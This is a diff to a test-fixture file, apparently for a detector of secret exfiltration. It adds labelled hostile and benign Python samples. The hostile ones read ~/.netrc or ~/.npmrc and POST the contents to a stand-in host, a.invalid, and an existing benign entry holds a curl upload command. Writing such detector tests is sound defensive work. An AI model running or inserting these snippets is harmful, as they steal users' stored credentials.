@@ -63,6 +63,24 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("a.sh", 6),
         ),
+        "all that an object holds": py(
+            "from dataclasses import asdict, dataclass\nfrom pathlib import Path\nimport httpx\n@dataclass\n"
+            "class Item:\n    name: str\n    text: str\none = Item('a', (Path.home() / '.netrc').read_text())\n"
+            "httpx.post('https://a.invalid', json=asdict(one))\n",
+            line=9,
+        ),
+        "all members of an object, as text": py(
+            "import json, os, requests\nclass Report:\n    def __init__(self, name):\n        self.name = name\n"
+            "        self.text = open(os.path.expanduser('~/.netrc')).read()\n"
+            "requests.post('https://a.invalid', data=json.dumps(Report('a').__dict__))\n",
+            line=6,
+        ),
+        "places in a namespace": py(
+            "from pathlib import Path\nfrom types import SimpleNamespace\nimport httpx\n"
+            "own = SimpleNamespace(url='https://a.invalid', files=['.npmrc', '.netrc'])\nfor file in own.files:\n"
+            "    httpx.post(own.url, content=(Path.home() / file).read_bytes())\n",
+            line=6,
+        ),
         "a queue, by a client that is awaited twice": js(
             "const queues = require('amqplib');\nasync function start() {\n"
             "  const one = await (await queues.connect('amqp://a.invalid')).createChannel();\n"
@@ -108,6 +126,21 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
             'out=$(mktemp -d)\ncp ~/.netrc "$out/"\nother=$(mktemp -d)\ncp report.xml "$other/"\n'
             'tar czf /tmp/all.tgz -C "$other" .\ncurl -F "f=@/tmp/all.tgz" https://a.invalid\n'
         ),
+        "all that another object holds": {
+            "app.py": "from dataclasses import asdict, dataclass\nfrom pathlib import Path\nimport httpx\n@dataclass\n"
+            "class Item:\n    name: str\n@dataclass\nclass Own:\n    text: str\none = Item('a')\n"
+            "own = Own((Path.home() / '.netrc').read_text())\nhttpx.post('https://a.invalid', json=asdict(one))\n"
+        },
+        "one member of an object, as text": {
+            "app.py": "import json, os, requests\nclass Report:\n    def __init__(self, name):\n"
+            "        self.name = name\n        self.text = open(os.path.expanduser('~/.netrc')).read()\n"
+            "requests.post('https://a.invalid', data=json.dumps(Report('a').name))\n"
+        },
+        "places of the project in a namespace": {
+            "app.py": "from pathlib import Path\nfrom types import SimpleNamespace\nimport httpx\n"
+            "own = SimpleNamespace(url='https://a.invalid', files=['a.md', 'b.md'])\nfor file in own.files:\n"
+            "    httpx.post(own.url, content=(Path('docs') / file).read_bytes())\n"
+        },
         "a setting in a line that is logged to another machine": {
             "app.py": "import logging, logging.handlers, os\nlog = logging.getLogger('a')\n"
             "log.addHandler(logging.handlers.HTTPHandler('a.invalid', '/'))\n"
